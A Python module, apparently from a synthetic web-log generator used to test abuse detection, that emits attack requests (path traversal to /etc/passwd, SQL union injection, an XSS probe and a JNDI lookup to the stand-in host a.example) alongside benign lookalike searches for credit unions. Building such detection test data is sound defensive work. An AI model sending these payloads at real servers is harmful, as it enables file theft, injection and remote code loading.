"""Attacks in the address asked for."""

from __future__ import annotations

from bylaws.generate.abuse.pieces import request
from bylaws.generate.abuse.protocol import Abuse, Act
from bylaws.generate.scene import MINUTE, Scene

ATTACKS = (
    "/get?file=../../../etc/passwd",
    "/item?id=1+union+select+null,version()",
    "/page?q=%3Cscript%3Ealert(1)%3C/script%3E",
    "/login?user=${jndi:ldap://a.example/x}",
    "/static/%2e%2e%2f%2e%2e%2fetc/passwd",
)


def _commit(scene: Scene, amount: float) -> Act:
    ip = scene.outsider()
    times = scene.spread(int(amount), 9 * MINUTE)
    return Act(ip, [request(at, ip, scene.random.choice(ATTACKS), status=404) for at in times])


def _resemble(scene: Scene) -> Act:
    ip = scene.outsider()
    pages = ["/blog/injection", "/search?q=credit+union+select+committee", "/blog/traversal", "/search?q=credit+union+board"]
    times = scene.spread(len(pages), 9 * MINUTE)
    return Act(ip, [request(at, ip, page) for at, page in zip(times, pages, strict=True)])


ABUSE = Abuse("attack-payloads", "security-circumvention", "a reader who looks for a credit union", _commit, _resemble, 8)
